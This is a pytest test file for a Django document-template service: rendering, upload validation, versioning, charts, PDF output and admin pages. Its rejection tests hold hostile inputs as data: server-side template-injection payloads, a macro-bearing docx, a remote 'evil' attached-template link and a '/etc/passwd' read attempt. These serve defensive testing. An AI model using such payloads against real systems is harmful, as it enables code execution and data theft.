"""Documents from templates that staff can replace."""

import io
import re
import struct
import threading
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.db.utils import ProgrammingError
from django.urls import reverse
from docx import Document
from docx.shared import Mm, Pt

from core.documents import official
from core.documents.charts import bar_chart
from core.documents.kinds import TemplateKind, Variable, templates
from core.documents.models import DocumentTemplate
from core.documents.rendering import Picture, render_docx, render_pdf
from core.documents.services import upload_template, use_version
from core.errors import UserError
from tests.core.factories import UserFactory

pytestmark = pytest.mark.django_db
SAMPLE = {"name": "某社", "rows": [{"n": 1}], "chart": None}


def built_in():
    page = official.OfficialDocument()
    page.title("关于{{ name }}的报告")
    page.heading("一、情况")
    page.body("{{ name }}开展服务。")
    page.table(["序号"], ["{{ row.n }}"], loop="row in rows")
    page.picture("{{ chart }}", "图1")
    page.signature("北京市总工会")
    return page.content()


@pytest.fixture(autouse=True)
def _kind(registered):
    kind = TemplateKind("report", "报告", built_in, [Variable("name", "the organization's name")], lambda: SAMPLE)
    registered(templates, "report", kind)


def docx(*paragraphs):
    document, out = Document(), io.BytesIO()
    for text in paragraphs:
        document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def repacked(content, **files):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            if name not in files:
                new.writestr(name, old.read(name))
        for name, text in files.items():
            new.writestr(name, text)
    return out.getvalue()


def text_of(content):
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def upload(content, **facts):
    return upload_template(key="report", content=content, filename="报告.docx", by=UserFactory(), **facts)


def test_render_by_the_built_in_template():
    png = bar_chart(["甲", "乙"], {"2026": [1, 2]})
    text = text_of(render_docx("report", {**SAMPLE, "rows": [{"n": 7}, {"n": 8}], "chart": Picture(png, 100)}))
    assert "关于某社的报告" in text
    assert re.findall(r"^\d+$", text, re.MULTILINE) == ["7", "8"]


def test_render_puts_the_picture_in():
    png = bar_chart(["甲"], {"2026": [1]})
    with zipfile.ZipFile(io.BytesIO(render_docx("report", {**SAMPLE, "chart": Picture(png, 100)}))) as package:
        assert [name for name in package.namelist() if name.startswith("word/media/")]


@pytest.mark.parametrize("name", ["甲 & 乙", "<w:p>", "{{ rows }}", "“引号”"])
def test_render_keeps_text_as_text(name):
    assert name in text_of(render_docx("report", {**SAMPLE, "name": name}))


def test_built_in_layout_is_that_of_the_standard():
    document = Document(io.BytesIO(built_in()))
    section = document.sections[0]
    page = [section.page_width, section.page_height, section.top_margin, section.left_margin]
    assert [round(length.mm) for length in page] == [210, 297, 37, 28]
    text_area = (section.page_width - section.left_margin - section.right_margin,
                 section.page_height - section.top_margin - section.bottom_margin)  # fmt: skip
    assert [round(length / Mm(1)) for length in text_area] == [156, 225]
    title, _heading, body = document.paragraphs[:3]
    assert (title.runs[0].font.size, body.runs[0].font.size) == (Pt(22), Pt(16))
    assert 'w:eastAsia="方正小标宋简体"' in title._p.xml
    assert 'w:eastAsia="仿宋_GB2312"' in body._p.xml
    assert document.settings.odd_and_even_pages_header_footer
    assert section.footer.paragraphs[0]._p.xml.count("PAGE") == 1


def test_built_in_names_stand_ins_for_its_fonts():
    with zipfile.ZipFile(io.BytesIO(built_in())) as package:
        table = package.read("word/fontTable.xml").decode()
    assert all(f'w:name="{font}"' in table for font in official.STAND_INS)


def test_upload_replaces_the_built_in_template():
    made = upload(docx("改用:{{ name }}"), note="新版式")
    assert (made.version, made.is_active, made.note) == (1, True, "新版式")
    assert text_of(render_docx("report", SAMPLE)) == "改用:某社"


def test_versions_can_be_used_again():
    upload(docx("一"))
    upload(docx("二"))
    use_version(key="report", version=1, by=None)
    assert text_of(render_docx("report", SAMPLE)) == "一"
    use_version(key="report", version=None, by=None)
    assert "关于某社的报告" in text_of(render_docx("report", {**SAMPLE, "chart": ""}))
    assert DocumentTemplate.objects.count() == 2


def test_use_of_a_version_that_is_not_there():
    with pytest.raises(UserError, match="7"):
        use_version(key="report", version=7, by=None)


def test_a_version_cannot_be_changed():
    upload(docx("一"))
    with pytest.raises(ProgrammingError, match="Cannot"):
        DocumentTemplate.objects.update(file=b"x")


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (docx("{{ nmae }}"), "nmae"),
        (docx("{{ rows.0.m.x }}"), "m"),
        (docx("{% for row in rows %}"), ""),
        (docx("{{ name"), ""),
        (docx("{{ ''.__class__.__mro__ }}"), ""),
        (docx("{{ name.__init__.__globals__ }}"), ""),
        (docx("{{ 1 / 0 }}"), ""),
        (docx("{{ range(10 ** 9) | list }}"), ""),
        (b"", ".docx"),
        (b"PK\x03\x04 no zip", ".docx"),
        (repacked(docx(), **{"word/vbaProject.bin": b"x"}), ""),
        (repacked(docx(), **{"word/document.xml": "<broken"}), ""),
        (repacked(docx(), **{"word/_rels/settings.xml.rels": '<Relationships><Relationship Id="a" '
                  'Type="http://x/relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
                  "</Relationships>"}), ""),
    ],
)  # fmt: skip
def test_upload_of_what_cannot_serve(content, word):
    with pytest.raises(UserError) as refusal:
        upload(content)
    assert refusal.value.field == "file"
    assert word in str(refusal.value.message)
    assert not DocumentTemplate.objects.exists()


def test_upload_names_what_is_known():
    with pytest.raises(UserError, match="chart, name, rows"):
        upload(docx("{{ nmae }}"))


def test_upload_of_a_template_that_is_too_large():
    with pytest.raises(UserError, match=r"5 ?MB"):
        upload(b"PK" + bytes(5_000_001))


@pytest.mark.django_db(transaction=True)
def test_two_uploads_at_once_leave_one_in_use():
    gate, person = threading.Barrier(2), UserFactory()

    def work():
        gate.wait()
        upload_template(key="report", content=docx("x"), filename="x.docx", by=person)
        connection.close()

    threads = [threading.Thread(target=work) for _ in range(2)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    assert sorted(DocumentTemplate.objects.values_list("version", "is_active")) == [(1, False), (2, True)]


def test_bar_chart_is_a_png_of_its_size():
    png = bar_chart(["东城", "西城"], {"2025": [1, 2], "2026": [3, 4.5]}, title="联系", unit="家", width=100, height=50)
    assert png.startswith(b"\x89PNG")
    width, height = struct.unpack(">II", png[16:24])
    assert (width, height) == (int(100 / 25.4 * 200), int(50 / 25.4 * 200))


@pytest.mark.parametrize("series", [{}, {"2026": [1]}])
def test_bar_chart_needs_a_value_for_each_label(series):
    with pytest.raises(ValueError, match="each label"):
        bar_chart(["甲", "乙"], series)


def test_pdf_by_our_own_fonts():
    source = '#set text(font: "Noto Sans SC")\n#let data = json(bytes(sys.inputs.data))\n#data.name'
    pdf = render_pdf(source, {"name": "某社"})
    assert pdf.startswith(b"%PDF")
    assert b"NotoSansSC" in pdf
    assert pdf == render_pdf(source, {"name": "某社"})


def test_pdf_reaches_no_files():
    with pytest.raises(RuntimeError, match=r"(?i)file|access"):
        render_pdf('#read("/etc/passwd")', {})


# Pages --------------------------------------------------------------------------------------------------------------


@pytest.fixture
def admin(client):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


PAGE = ("admin:documents_document", ["report"])


def test_administrator_replaces_and_reverts(admin):
    page = reverse(PAGE[0], args=PAGE[1])
    assert "报告" in admin.get(reverse("admin:documents_documenttemplate_changelist")).content.decode()
    assert "the organization&#x27;s name" in admin.get(page).content.decode()
    admin.post(page, {"file": SimpleUploadedFile("x.docx", docx("新")), "note": "n"})
    download = admin.get(reverse("admin:documents_file", args=["report"]))
    assert (text_of(download.content), "attachment" in download["Content-Disposition"]) == ("新", True)
    admin.post(reverse("admin:documents_use", args=["report"]), {"version": "0"})
    assert not DocumentTemplate.objects.filter(is_active=True).exists()
    assert text_of(admin.get(reverse("admin:documents_file", args=["report", 1])).content) == "新"


def test_administrator_sees_why_an_upload_is_refused(admin):
    answer = admin.post(reverse(PAGE[0], args=PAGE[1]), {"file": SimpleUploadedFile("x.docx", docx("{{ nmae }}"))})
    assert "nmae" in answer.content.decode()
    assert answer.context["form"].errors["file"]


@pytest.mark.parametrize("path", ["nothing/", "report/file/9/"])
def test_unknown_document_is_not_found(admin, path):
    assert admin.get(reverse("admin:documents_documenttemplate_changelist") + path).status_code == 404


def test_pages_are_closed_to_others(client):
    client.force_login(UserFactory())
    assert client.get(reverse(PAGE[0], args=PAGE[1])).status_code in {302, 403, 404}
